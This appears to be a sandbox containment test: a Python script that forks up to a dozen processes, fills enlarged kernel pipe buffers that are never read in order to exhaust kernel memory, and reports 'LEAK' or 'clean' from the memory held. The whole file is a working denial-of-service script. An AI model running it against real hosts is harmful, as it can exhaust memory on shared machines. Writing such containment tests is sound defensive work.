# expect: contained
# mode: run
# attack: memory in the kernel: large pipes filled and never read, in every process that is allowed
import fcntl, os, time
for _ in range(12):
    try:
        if os.fork() == 0: break
    except OSError: break
total, hits = 0, []
try:
    while True:
        r, w = os.pipe(); os.set_blocking(w, False)
        try: fcntl.fcntl(w, 1031, 1 << 20)
        except OSError: pass
        try:
            while True: total += os.write(w, b"x" * 65536)
        except OSError: pass
except OSError: pass
os.close(0); open(f"/tmp/{os.getpid()}", "w").write(str(total)); time.sleep(1)
if os.getpid() == 1: 
    held = sum(int(open(f"/tmp/{p}").read() or 0) for p in os.listdir("/tmp"))
    print("LEAK" if held > 512 << 20 else "clean", held >> 20, "MiB")
